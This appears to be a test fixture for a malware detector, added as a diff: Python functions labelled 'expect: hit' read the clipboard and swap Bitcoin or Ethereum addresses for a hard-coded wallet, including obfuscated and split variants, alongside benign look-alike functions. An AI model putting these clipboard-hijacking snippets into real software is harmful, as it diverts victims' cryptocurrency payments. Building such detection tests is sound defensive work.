@@ -1,0 +1,49 @@
+import re
+
+import pyperclip
+
+MINE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
+
+
+def plain():
+    text = pyperclip.paste()
+    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
+        pyperclip.copy(MINE)  # expect: hit
+
+
+def other(wallets):
+    text = pyperclip.paste()
+    if re.fullmatch("0x[0-9a-fA-F]{40}", text):
+        pyperclip.copy(wallets["eth"])  # expect: hit
+
+
+def spelled():
+    p = __import__("pyper" + "clip")
+    if getattr(p, "pas" + "te")().startswith("bc1"):
+        getattr(p, "co" + "py")("".join(["bc1qxy2kgdygjrsqtzq2", "n0yrf2493p83kkfjhx0wlh"]))  # expect: hit
+
+
+def _read():
+    return pyperclip.paste()
+
+
+def _swap(text):
+    pyperclip.copy(MINE)  # expect: hit
+
+
+def split():
+    if len(_read()) == 42:
+        _swap(_read())
+
+
+# look-alikes
+def tidy():
+    pyperclip.copy(pyperclip.paste().strip())
+
+
+def donate():
+    pyperclip.copy(MINE)
+
+
+def valid(text):
+    return re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text) is not None
